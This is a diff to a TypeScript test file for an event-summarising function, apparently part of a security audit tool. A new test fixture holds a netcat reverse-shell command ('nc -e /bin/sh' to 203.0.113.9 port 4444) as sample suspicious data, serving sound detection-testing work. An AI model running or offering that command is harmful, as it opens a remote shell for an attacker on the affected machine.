@@ -13,6 +13,7 @@ function linesOf(events: readonly EventRecord[], tokens: number): readonly strin
     clean: createClean({ redact: true }),
     costOf: createLineCost(),
     hasMore: false,
+    atMost: 16,
   });
 }
 
@@ -44,4 +45,20 @@ test("addresses that are somewhere are told before those that every machine has"
 test("where room is short, who and on what stay", () => {
   expect(linesOf(events, 16)).toEqual(["users: app", "hosts: web-0 17; 2 more"]);
   expect(linesOf(events, 40).map((line) => line.split(":")[0])).toEqual(["users", "from", "hosts"]);
+});
+
+test("what suspicious events are about comes first, with how often it comes in all", () => {
+  const netcat = {
+    event_type: "audit",
+    syscall: "execve",
+    exe: "/usr/bin/nc",
+    arguments: "nc -e /bin/sh 203.0.113.9 4444",
+    user: "www-data",
+    hostname: "web-1",
+    _id: "event-99",
+    timestamp: 1.7e12,
+  };
+  expect(linesOf([...events, netcat], 400)).toEqual(
+    expect.arrayContaining(["users: www-data 1; app 50", "hosts: web-1 17; web-0 17; web-2 17"]),
+  );
 });
